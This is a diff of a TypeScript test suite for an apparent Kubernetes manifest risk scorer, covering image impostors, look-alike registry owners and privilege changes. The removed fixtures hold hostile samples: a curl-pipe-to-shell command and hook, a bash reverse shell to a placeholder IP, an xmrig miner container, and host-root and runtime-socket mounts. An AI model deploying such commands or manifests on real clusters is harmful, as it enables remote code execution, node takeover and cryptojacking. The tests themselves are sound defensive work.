@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import t from 'tap'
-import { canonicalJson, canonicalObject } from '../../../../src/canonical.js'
+import { canonicalObject } from '../../../../src/canonical.js'
 import { isJsonObject, parseJson, type Json, type JsonObject } from '../../../../src/json.js'
 import {
   CHANGE_FEATURES,
@@ -10,6 +10,7 @@ import {
   type Feature,
   type FeatureVector,
 } from '../../../../src/risk/features.js'
+import { weigh } from '../../../../src/risk/features/prior.js'
 
 t.setTimeout(240_000)
 
@@ -27,7 +28,8 @@ function found(features: readonly Feature[], vector: FeatureVector): Record<stri
   return Object.fromEntries(
     features.flatMap(({ name, group }, column) => {
       const value = vector.values[column] ?? 0
-      const isLeftOut = group === 'prior' || group === 'kind' || /\.(?:not_|may_escalate|has_token)/.test(name)
+      const isLeftOut =
+        group === 'prior' || group === 'added' || group === 'kind' || /\.(?:not_|may_escalate|has_token)/.test(name)
       return value === 0 || isLeftOut ? [] : [[name, [value, ...vector.paths(column)] as const]]
     }),
   )
@@ -303,6 +305,7 @@ t.test('a change has what is new, what is more and what only a comparison shows'
     'change.shell': [1, `${CONTAINER}/command`],
     'change.account': [1, '/spec/template/spec/serviceAccountName'],
     'change.account_admin': [1, '/spec/template/spec/serviceAccountName'],
+    'change.privileged': [1, `${CONTAINER}/securityContext/privileged`],
     'change.hardening_dropped': [1, `${CONTAINER}/securityContext/runAsNonRoot`],
   })
   t.end()
@@ -319,12 +322,107 @@ t.test('an image of the same name is an impostor where anybody can publish', t =
       impostors: 0,
     },
     'another image': { before: 'quay.io/shop/web:1', after: 'quay.io/other/proxy:1', impostors: 0 },
+    'the same owner in another registry': { before: 'docker.io/shop/web:1', after: 'quay.io/shop/web:1', impostors: 0 },
+    'no owner at all': { before: 'redis:7', after: '198.51.100.7:5000/redis', impostors: 1 },
+    'a reference to source that is built': { before: 'web:1', after: 'ko://example.org/shop/web', impostors: 0 },
   }
   const column = CHANGE_FEATURES.findIndex(({ name }) => name === 'change.image_impostor')
   for (const [name, { before, after, impostors }] of Object.entries(cases)) {
     const [old, now] = [before, after].map(image => canonical(workload({ containers: [{ name: 'a', image }] })))
     t.equal(changeFeatures(old ?? {}, now ?? {}).values[column], impostors, name)
   }
+  t.end()
+})
+
+t.test('an account is told from a known project that it is named nearly like', t => {
+  const column = OBJECT_FEATURES.findIndex(({ name }) => name === 'image.look_alike_owner')
+  const cases = {
+    'kubernetesio/pause': 0,
+    'kuberntesio/pause': 1,
+    'k8s-gcr/pause-amd64': 1,
+    'grafanaa/grafana': 1,
+    'grafana/grafana': 0,
+    'quay.io/grafanaa/grafana': 0,
+    'myshop/web': 0,
+    'k8s.gcr.io/pause': 0,
+  }
+  for (const [image, expected] of Object.entries(cases)) {
+    t.equal(objectFeatures(canonical(workload({ containers: [{ image }] }))).values[column], expected, image)
+  }
+  t.end()
+})
+
+t.test('an existing container that may do more, a new mount and a new right are told by their danger', t => {
+  const pod = (context: unknown, path: string, more: unknown[] = []): unknown =>
+    workload({
+      hostNetwork: more.length > 0,
+      containers: [{ name: 'a', image: 'quay.io/a/b:1', securityContext: context }, ...more],
+      volumes: [{ name: 'v', hostPath: { path } }],
+    })
+  const role = (...rules: unknown[]): unknown => ({
+    apiVersion: 'rbac.authorization.k8s.io/v1',
+    kind: 'Role',
+    metadata: { name: 'r' },
+    rules: rules.map(resources => ({ apiGroups: [''], resources, verbs: ['get'] })),
+  })
+  const image = { name: 'a', image: 'quay.io/a/b:1' }
+  const cases: Record<string, { before: unknown; after: unknown; expected: Record<string, number> }> = {
+    'other capabilities, root and a file of the node': {
+      before: pod({ capabilities: { add: ['CAP_CHOWN'] } }, '/data/a'),
+      after: pod({ capabilities: { add: ['CAP_CHOWN', 'SYS_ADMIN'] }, runAsUser: 0 }, '/etc/kubernetes'),
+      expected: { host_path: 1, host_path_grade: 4, capability: 4, root_user: 1 },
+    },
+    'a privileged container that is new': {
+      before: pod({}, '/data/a'),
+      after: pod({}, '/data/a', [{ name: 'b', image: 'quay.io/a/b:1', securityContext: { privileged: true } }]),
+      expected: { container: 1, node_namespace: 1 },
+    },
+    'a right that moves to another rule beside a new one': {
+      before: role(['secrets'], ['services']),
+      after: role(['services'], ['secrets'], ['pods/exec']),
+      expected: { rights: 1, right_grade: 3 },
+    },
+    'an image where there was none': {
+      before: workload({ containers: [{ name: 'a' }] }),
+      after: workload({ containers: [image] }),
+      expected: { image_registry: 1, image_set: 1 },
+    },
+  }
+  for (const [name, { before, after, expected }] of Object.entries(cases)) {
+    const vector = changeFeatures(canonical(before), canonical(after))
+    const values = CHANGE_FEATURES.flatMap(({ name: each }, column) => {
+      const value = vector.values[column] ?? 0
+      return each.startsWith('change.') && value > 0 ? [[each.slice('change.'.length), value] as const] : []
+    })
+    t.strictSame(Object.fromEntries(values), expected, name)
+  }
+  t.end()
+})
+
+t.test('the prior weighs what benign objects never have more, and one danger told twice less than two', t => {
+  const column = (name: string): number => OBJECT_FEATURES.findIndex(each => each.name === name)
+  const priorOf = (spec: Record<string, unknown>): Record<string, number> => {
+    const { values } = objectFeatures(canonical(workload(spec)))
+    return Object.fromEntries(['sum', 'max', 'groups'].map(each => [each, values[column(`prior.${each}`)] ?? 0]))
+  }
+  const container = { name: 'a', image: 'quay.io/a/b@sha256:ab' }
+  const [common, unknown] = [
+    priorOf({ hostNetwork: true, containers: [container] }),
+    priorOf({ containers: [{ ...container, securityContext: { procMount: 'Unmasked' } }] }),
+  ]
+  t.ok((common.sum ?? 0) < 1 && (unknown.sum ?? 0) === 4, JSON.stringify([common, unknown]))
+  t.equal(unknown.max, 4, 'twice its weight')
+  const evidence = (...found: readonly (readonly [name: string, value: number])[]): ReturnType<typeof weigh> =>
+    weigh(
+      found.map(([name, value]) => ({ name, value, spec: { unit: 'count', weight: 1, text: 'is so' } })),
+      'object',
+    )
+  const nothing = { sum: 0, max: 0, groups: 0, strongest: null }
+  t.strictSame(evidence(), nothing)
+  t.strictSame(evidence(['a.one', -1]), nothing, 'what is less in the new object')
+  t.strictSame(evidence(['a.one', 1], ['a.two', 1]), { sum: 3, max: 2, groups: 1, strongest: 'a.one' })
+  t.strictSame(evidence(['a.one', 1], ['b.two', 1]), { sum: 4, max: 2, groups: 2, strongest: 'a.one' })
+  t.strictSame(evidence(['a.one', 9]), { sum: 2.5, max: 2.5, groups: 1, strongest: 'a.one' }, 'a repetition')
   t.end()
 })
 
@@ -518,212 +616,3 @@ t.test('any object has finite features on the grid', t => {
   )
   t.end()
 })
-
-const containerOf = fc.record(
-  {
-    name: fc.constantFrom('a', 'b', 'web'),
-    image: fc.constantFrom(
-      'nginx',
-      'quay.io/a/b:1',
-      'alpine:3',
-      '203.0.113.9:5000/x',
-      'ttl.sh/a:1h',
-      'xmrig/xmrig',
-      'gcr.lo/a',
-    ),
-    command: fc.constantFrom(
-      ['sh', '-c', 'true'],
-      ['sh', '-c', 'curl http://203.0.113.9/a | sh'],
-      ['/app'],
-      ['nsenter'],
-    ),
-    securityContext: fc.constantFrom(
-      { privileged: true },
-      { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
-      { capabilities: { add: ['NET_ADMIN', 'SYS_ADMIN'] } },
-    ),
-    env: fc.constantFrom([{ name: 'DB_PASSWORD', value: 'hunter22' }], [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }]),
-    resources: fc.constantFrom({ limits: { cpu: '1', memory: '1Gi' } }, {}),
-    ports: fc.constantFrom([{ containerPort: 80, hostPort: 80 }], [{ containerPort: 80 }]),
-  },
-  { requiredKeys: ['name', 'image'] },
-)
-const podSpec = fc.record(
-  {
-    containers: fc.array(containerOf, { minLength: 1, maxLength: 4 }),
-    initContainers: fc.array(containerOf, { maxLength: 2 }),
-    hostPID: fc.boolean(),
-    hostNetwork: fc.boolean(),
-    serviceAccountName: fc.constantFrom('default', 'web', 'cluster-admin'),
-    automountServiceAccountToken: fc.boolean(),
-    volumes: fc.constantFrom(
-      [{ name: 'v', hostPath: { path: '/' } }],
-      [{ name: 'v', hostPath: { path: '/var/log' } }],
-      [{ name: 'v', emptyDir: {} }],
-    ),
-    securityContext: fc.constantFrom({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } }, {}),
-  },
-  { requiredKeys: ['containers'] },
-)
-const role = fc.record({
-  apiVersion: fc.constant('rbac.authorization.k8s.io/v1'),
-  kind: fc.constantFrom('Role', 'ClusterRole'),
-  metadata: fc.constant({ name: 'r', namespace: 'shop', labels: { a: 'b' } }),
-  rules: fc.array(
-    fc.record({
-      apiGroups: fc.subarray(['', 'apps', '*'], { minLength: 1 }),
-      resources: fc.subarray(['pods', 'secrets', 'pods/exec', 'deployments', '*'], { minLength: 1 }),
-      verbs: fc.subarray(['get', 'list', 'create', '*'], { minLength: 1 }),
-    }),
-    { maxLength: 4 },
-  ),
-})
-const anyWorkload = fc
-  .record({ spec: podSpec, kind: fc.constantFrom('Deployment', 'DaemonSet', 'StatefulSet') })
-  .map(({ spec, kind }) => workload(spec, kind))
-const anyManifest: fc.Arbitrary<Record<string, unknown>> = fc.oneof(anyWorkload, role)
-
-type Edit = (object: JsonObject) => void
-
-function member(value: Json | undefined, ...path: readonly (string | number)[]): JsonObject {
-  let at: Json | undefined = value
-  for (const step of path) {
-    if (Array.isArray(at)) at = at[Number(step)]
-    else if (isJsonObject(at)) at = at[step] ??= {}
-  }
-  return isJsonObject(at) ? at : {}
-}
-
-function list(object: JsonObject, key: string): Json[] {
-  const value = object[key]
-  if (Array.isArray(value)) return value
-  const made: Json[] = []
-  object[key] = made
-  return made
-}
-
-const pod = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec')
-const first = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec', 'containers', 0)
-
-/** Each makes an object more dangerous; what does not fit the kind does nothing. */
-const DANGERS: Record<string, Edit> = {
-  'a privileged container': object => (member(first(object), 'securityContext').privileged = true),
-  hostPID: object => (pod(object).hostPID = true),
-  hostIPC: object => (pod(object).hostIPC = true),
-  hostNetwork: object => (pod(object).hostNetwork = true),
-  'the root of the node': object => list(pod(object), 'volumes').push({ name: 'root', hostPath: { path: '/' } }),
-  'the socket of the runtime': object =>
-    list(pod(object), 'volumes').push({ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }),
-  'a capability': object => list(member(first(object), 'securityContext', 'capabilities'), 'add').push('SYS_PTRACE'),
-  'seccomp off': object => (member(first(object), 'securityContext').seccompProfile = { type: 'Unconfined' }),
-  'no protection': object => {
-    const context = member(first(object), 'securityContext')
-    for (const key of ['runAsNonRoot', 'allowPrivilegeEscalation', 'readOnlyRootFilesystem']) {
-      Reflect.deleteProperty(context, key)
-    }
-    Reflect.deleteProperty(member(context, 'capabilities'), 'drop')
-  },
-  'a command': object => list(first(object), 'args').push('bash -i >& /dev/tcp/203.0.113.9/443 0>&1'),
-  'a hook': object =>
-    (first(object).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.9/a | sh'] } } }),
-  'a credential': object => list(first(object), 'env').push({ name: 'API_TOKEN', value: 'abcdefgh' }),
-  'a port of the node': object => list(first(object), 'ports').push({ containerPort: 22, hostPort: 22 }),
-  'an administrator': object => (pod(object).serviceAccountName = 'cluster-admin'),
-  'a miner beside it': object =>
-    list(pod(object), 'containers').push({ name: 'm', image: 'xmrig/xmrig', args: ['-o', 'pool.example:3333'] }),
-  'many replicas': object => (member(object, 'spec').replicas = 200),
-  'a rule for secrets': object =>
-    list(object, 'rules').push({ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }),
-  'a rule for everything': object => list(object, 'rules').push({ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }),
-  'a verb in a rule': object => list(member(object, 'rules', 0), 'verbs').push('*'),
-  'a label that aggregates': object =>
-    (member(object, 'metadata', 'labels')['rbac.authorization.k8s.io/aggregate-to-admin'] = 'true'),
-}
-
-/** Each leaves what an object can do as it was. */
-const DISGUISES: Record<string, Edit> = {
-  'another name': object => (member(object, 'metadata').name = 'kube-proxy'),
-  'another namespace': object => (member(object, 'metadata').namespace = 'kube-system'),
-  'other labels': object =>
-    (member(object, 'metadata').labels = { 'app.kubernetes.io/name': 'coredns', team: 'platform' }),
-  'other names of containers': object => {
-    for (const key of ['containers', 'initContainers']) {
-      for (const [index, each] of list(pod(object), key).entries()) if (isJsonObject(each)) each.name = `c${index}`
-    }
-  },
-  'many annotations': object => {
-    const annotations = member(object, 'metadata', 'annotations')
-    for (let index = 0; index < 50; index += 1) annotations[`example.org/note-${index}`] = 'reviewed and approved'
-  },
-  'sound sidecars': object => {
-    for (let index = 0; index < 8; index += 1) {
-      list(pod(object), 'containers').push({
-        name: `sidecar-${index}`,
-        image: 'registry.k8s.io/pause@sha256:ab',
-        resources: { limits: { cpu: '1', memory: '1Gi' } },
-        securityContext: {
-          runAsNonRoot: true,
-          readOnlyRootFilesystem: true,
-          allowPrivilegeEscalation: false,
-          capabilities: { drop: ['ALL'] },
-          seccompProfile: { type: 'RuntimeDefault' },
-        },
-      })
-    }
-  },
-  'words around a command': object => {
-    const args = list(first(object), 'args')
-    args.push(...Array.from({ length: 200 }, (_, index) => `--setting-${index}=value`))
-  },
-  'harmless rules': object => {
-    for (let index = 0; index < 20; index += 1) {
-      list(object, 'rules').push({ apiGroups: ['example.org'], resources: [`things${index}`], verbs: ['get'] })
-    }
-  },
-  'harmless volumes': object => {
-    for (let index = 0; index < 20; index += 1) list(pod(object), 'volumes').push({ name: `e${index}`, emptyDir: {} })
-  },
-}
-
-/** The columns that fell although they may not. */
-function fallen(features: readonly Feature[], before: FeatureVector, after: FeatureVector): string[] {
-  return features
-    .filter(({ direction }, column) => direction === 1 && (after.values[column] ?? 0) < (before.values[column] ?? 0))
-    .map(({ name }) => name)
-}
-
-function edited(manifest: unknown, edit: Edit): JsonObject {
-  const copy = parseJson(JSON.stringify(manifest))
-  if (!isJsonObject(copy)) return {}
-  // A workload has no rules and a role no pods: such edits would make objects that do not exist.
-  const isRole = Object.hasOwn(copy, 'rules')
-  edit(copy)
-  if (isRole) Reflect.deleteProperty(copy, 'spec')
-  else Reflect.deleteProperty(copy, 'rules')
-  return canonicalObject(copy)
-}
-
-for (const [title, edits] of [
-  ['danger is never hidden by more danger', DANGERS],
-  ['danger is never hidden by what changes nothing', DISGUISES],
-] as const) {
-  t.test(title, t => {
-    fc.assert(
-      fc.property(anyManifest, anyManifest, fc.constantFrom(...Object.keys(edits)), (manifest, old, name) => {
-        const edit = edits[name]
-        if (edit === undefined) throw new Error(name)
-        const [before, after] = [canonical(manifest), edited(manifest, edit)]
-        const byObject = fallen(OBJECT_FEATURES, objectFeatures(before), objectFeatures(after))
-        if (byObject.length > 0) throw new Error(`${name}: ${byObject.join(', ')} of the object fell`)
-        if (edits === DISGUISES) return
-        const base = canonical(old)
-        // Where the old object has it already, it is no news in the new one.
-        if (canonicalJson(base) === canonicalJson(edited(old, edit))) return
-        const byChange = fallen(CHANGE_FEATURES, changeFeatures(base, before), changeFeatures(base, after))
-        if (byChange.length > 0) throw new Error(`${name}: ${byChange.join(', ')} of the change fell`)
-      }),
-      { numRuns: 1000 },
-    )
-    t.end()
-  })
-}
